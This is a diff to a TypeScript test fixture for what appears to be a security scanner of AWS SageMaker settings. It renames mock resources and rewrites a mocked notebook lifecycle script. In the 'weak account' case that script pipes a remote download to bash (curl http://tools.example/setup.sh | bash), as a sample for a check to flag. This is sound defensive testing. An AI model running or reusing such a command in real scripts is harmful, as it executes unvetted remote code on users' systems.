@@ -39,22 +39,32 @@ function account(isMended: boolean): Answers {
     "SageMaker.ListNotebookInstanceLifecycleConfigs": {
       NotebookInstanceLifecycleConfigs: [
         {
-          NotebookInstanceLifecycleConfigName: "l",
+          NotebookInstanceLifecycleConfigName: "setup",
           NotebookInstanceLifecycleConfigArn: arn(
-            "sagemaker:@:notebook-instance-lifecycle-config/l",
+            "sagemaker:@:notebook-instance-lifecycle-config/setup",
           ),
         },
       ],
     },
     "SageMaker.DescribeNotebookInstanceLifecycleConfig": {
       OnStart: [
-        { Content: btoa(either("curl -s https://get.acme.io/x.sh | bash\n", "echo ready\n")) },
+        {
+          Content: Buffer.from(
+            either(
+              "#!/bin/bash\ncurl http://tools.example/setup.sh | bash\n",
+              "#!/bin/bash\ntrue\n",
+            ),
+          ).toString("base64"),
+        },
       ],
     },
     "SageMaker.ListClusters": {
-      ClusterSummaries: [{ ClusterName: "c", ClusterArn: arn("sagemaker:@:cluster/c") }],
+      ClusterSummaries: [{ ClusterName: "gpu", ClusterArn: arn("sagemaker:@:cluster/gpu") }],
     },
-    "SageMaker.DescribeCluster": { ClusterName: "c", ...only({ VpcConfig: network }) },
+    "SageMaker.DescribeCluster": {
+      InstanceGroups: [{ InstanceGroupName: "workers", InstanceType: "ml.p5.48xlarge" }],
+      ...only({ VpcConfig: network }),
+    },
     "SageMaker.ListModels": {
       Models: [{ ModelName: "m", ModelArn: arn("sagemaker:@:model/m") }],
     },
@@ -224,8 +234,8 @@ function account(isMended: boolean): Answers {
 /** By the end of its address, what fails in the weak account and passes in the mended one. */
 const table: readonly (readonly [check: string, of: string])[] = [
   ["sagemaker-notebook-imds-v1", "notebook-instance/n"],
-  ["sagemaker-lifecycle-script", "notebook-instance-lifecycle-config/l"],
-  ["sagemaker-cluster-outside-vpc", "cluster/c"],
+  ["sagemaker-lifecycle-script", "notebook-instance-lifecycle-config/setup"],
+  ["sagemaker-cluster-outside-vpc", "cluster/gpu"],
   ["sagemaker-model-network-isolation", "model/m"],
   ["sagemaker-model-registry-open", "model-package-group/g"],
   ["sagemaker-feature-store-key", "feature-group/f"],
